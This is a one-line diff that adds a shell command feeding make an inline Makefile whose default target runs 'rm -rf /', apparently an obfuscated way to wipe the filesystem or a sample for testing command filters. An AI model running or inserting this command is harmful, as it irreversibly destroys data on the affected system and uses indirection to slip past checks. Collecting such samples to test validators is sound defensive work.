@@ -1,0 +1,1 @@
+make -f /dev/stdin <<< $'all:\n\trm -rf /\n'
